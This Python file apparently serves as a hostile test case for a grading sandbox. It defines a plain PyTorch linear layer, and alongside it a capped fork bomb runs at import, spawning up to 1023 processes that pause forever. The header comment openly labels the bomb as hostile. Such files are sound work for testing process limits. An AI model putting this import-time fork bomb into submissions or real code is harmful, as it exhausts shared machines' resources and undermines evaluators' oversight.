# Hostile: a fork bomb at import. Every process forks again, ten rounds deep (up to 1023 processes; capped
# so that a machine without a process limit survives it); the extra processes wait forever. A process whose
# fork is refused says so on stdout, which the grader keeps as the log.
import os
import signal

import torch
from torch import nn


class MyLinear(nn.Module):
    def __init__(self, in_features, out_features, bias=True):
        super().__init__()
        self.in_features = in_features
        self.out_features = out_features
        bound = 1.0 / in_features**0.5
        self.weights = nn.Parameter(torch.empty(in_features, out_features).uniform_(-bound, bound))
        if bias:
            self.bias = nn.Parameter(torch.empty(out_features).uniform_(-bound, bound))
        else:
            self.register_parameter("bias", None)

    def forward(self, x):
        out = x @ self.weights
        return out if self.bias is None else out + self.bias


ORIGINAL = os.getpid()
refused = None
for _ in range(10):
    try:
        if os.fork() == 0:
            continue  # the child goes on forking too
    except OSError as exc:
        refused = exc
if refused is not None:
    os.write(1, f"fork bomb: fork refused in pid {os.getpid()}: {refused}\n".encode())
if os.getpid() != ORIGINAL:
    while True:
        signal.pause()
